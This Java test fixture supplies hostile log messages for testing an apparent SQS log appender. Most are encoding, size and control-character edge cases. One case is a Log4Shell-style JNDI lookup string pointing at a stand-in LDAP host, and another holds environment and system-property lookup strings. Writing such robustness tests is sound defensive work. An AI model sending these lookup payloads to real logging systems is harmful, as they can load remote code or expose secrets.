package io.github.sqsappender.core.testing;

import java.util.ArrayList;
import java.util.List;

/**
 * Bodies real applications log that break naive SQS appenders. Shared by both adapters' tests:
 * each must end delivered (sanitized or truncated) or counted, never as an exception in the caller.
 */
public final class HostileInputs {

    /** One hostile log call: a name, the message, and an optional throwable to log with it. */
    public record Case(String name, String message, Throwable throwable) {
        @Override
        public String toString() {
            return name;
        }
    }

    private HostileInputs() {
    }

    public static List<Case> all() {
        List<Case> cases = new ArrayList<>();
        cases.add(new Case("NUL byte", "nul\u0000byte", null));
        cases.add(new Case("ANSI colour codes", "\u001b[31mred\u001b[0m and \u001b[1;32mbold green\u001b[0m", null));
        cases.add(new Case("other C0 controls", "bell\u0007 backspace\u0008 formfeed\u000c vtab\u000b", null));
        cases.add(new Case("lone high surrogate", "high \uD800 alone", null));
        cases.add(new Case("lone low surrogate", "low \uDC00 alone", null));
        cases.add(new Case("a thousand lone surrogates", "\uDFFF".repeat(1_000), null));
        cases.add(new Case("U+FFFE", "not a character \uFFFE", null));
        cases.add(new Case("U+FFFF", "not a character \uFFFF", null));
        cases.add(new Case("emoji across the truncation boundary", "😀".repeat(70_000), null));
        cases.add(new Case("two-byte characters across the boundary", "é".repeat(200_000), null));
        cases.add(new Case("2 MiB event", "x".repeat(2 * 1024 * 1024), null));
        cases.add(new Case("20 MiB event", "y".repeat(20 * 1024 * 1024), null));
        cases.add(new Case("empty message", "", null));
        cases.add(new Case("whitespace only", "   \t  ", null));
        cases.add(new Case("newline only", "\n", null));
        cases.add(new Case("null message", null, null));
        cases.add(new Case("JNDI lookup", "${jndi:ldap://example.invalid/a}", null));
        cases.add(new Case("environment lookup", "${env:HOME} ${sys:user.home} $${ctx:x}", null));
        cases.add(new Case("format placeholders", "%d %n %s {} {} %m", null));
        cases.add(new Case("10,000-line stack trace", "failure with a deep stack", deepException(10_000)));
        cases.add(new Case("100 KB single-line JSON", json(100 * 1024), null));
        cases.add(new Case("right-to-left and combining text", "שלום עולם مرحبا e\u0301 a\u0308", null));
        cases.add(new Case("ZWJ emoji family and BOM", "\uFEFF👨‍👩‍👧‍👦 family", null));
        cases.add(new Case("C1 controls (allowed by SQS)", "next line\u0085 csi\u009b", null));
        return cases;
    }

    private static Throwable deepException(int depth) {
        IllegalStateException e = new IllegalStateException("deep");
        StackTraceElement[] trace = new StackTraceElement[depth];
        for (int i = 0; i < depth; i++) {
            trace[i] = new StackTraceElement("com.example.Deep" + (i % 50), "recurse" + i, "Deep.java", i + 1);
        }
        e.setStackTrace(trace);
        return e;
    }

    private static String json(int bytes) {
        StringBuilder sb = new StringBuilder(bytes + 64).append("{\"items\":[");
        int i = 0;
        while (sb.length() < bytes) {
            sb.append(i == 0 ? "" : ",").append("{\"id\":").append(i).append(",\"name\":\"item-").append(i).append("\"}");
            i++;
        }
        return sb.append("]}").toString();
    }

    /** True when {@code body} contains only characters SQS accepts. */
    public static boolean sqsAcceptable(String body) {
        for (int i = 0; i < body.length(); i++) {
            char c = body.charAt(i);
            if (c == 0x9 || c == 0xA || c == 0xD || (c >= 0x20 && c < 0xD800) || (c >= 0xE000 && c <= 0xFFFD)) {
                continue;
            }
            if (Character.isHighSurrogate(c) && i + 1 < body.length() && Character.isLowSurrogate(body.charAt(i + 1))) {
                i++;
                continue;
            }
            return false;
        }
        return true;
    }
}
